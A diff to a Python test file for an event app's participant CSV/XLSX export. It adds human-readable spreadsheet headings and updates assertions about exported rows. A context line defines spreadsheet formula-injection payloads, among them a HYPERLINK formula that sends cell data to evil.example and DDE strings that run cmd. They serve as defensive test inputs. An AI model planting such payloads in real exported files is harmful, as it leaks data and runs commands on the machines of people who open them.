@@ -46,6 +46,27 @@ COLUMNS = [
     "doc_number_masked",
     "created_at",
 ]
+# The XLSX is for people: its headings are words, in the requester's language (English here).
+HEADINGS = [
+    "Given name",
+    "Family name",
+    "Given name (native script)",
+    "Family name (native script)",
+    "E-mail address",
+    "Organisation",
+    "Position",
+    "Sector",
+    "Delegation",
+    "Circle",
+    "Category",
+    "Status",
+    "Languages",
+    "Dietary needs",
+    "Accessibility needs",
+    "Document type",
+    "Document number (masked)",
+    "Registration date",
+]
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
@@ -141,10 +162,11 @@ def test_xlsx_export_has_the_same_rows_as_strings(client, login, db, both_sides)
     assert r.headers["content-disposition"] == f'attachment; filename="participants-event-{event.id}.xlsx"'
     sheet, rows = _xlsx(r)
     assert sheet.title == "Participants"
-    assert rows[0] == COLUMNS
+    assert rows[0] == HEADINGS
     assert [row[1] for row in rows[1:]] == ["Mammadova", "Petrosyan", "Sargsyan", "Şükürov"]
     assert rows[2][:4] == ["Ani", "Petrosyan", "Անի", "Պետրոսյան"]
-    assert rows[2][16] == "•••••4567"
+    assert rows[2][7:12] == ["Civil society", "Armenian delegation", "Core", "Expert", "Confirmed"]
+    assert rows[2][15:17] == ["Passport", "•••••4567"]
     assert rows[2][17] == datetime(2026, 1, 10, 12, 30)
     assert sheet.freeze_panes == "A2"
 
@@ -187,7 +209,7 @@ def test_export_of_an_event_without_participants_is_the_header_alone(client, log
     _, xlsx_rows = _xlsx(client.get(f"/events/{event.id}/participants.xlsx"))
 
     assert rows == [COLUMNS]
-    assert xlsx_rows == [COLUMNS]
+    assert xlsx_rows == [HEADINGS]
 
 
 # --- safety --------------------------------------------------------------------------------------
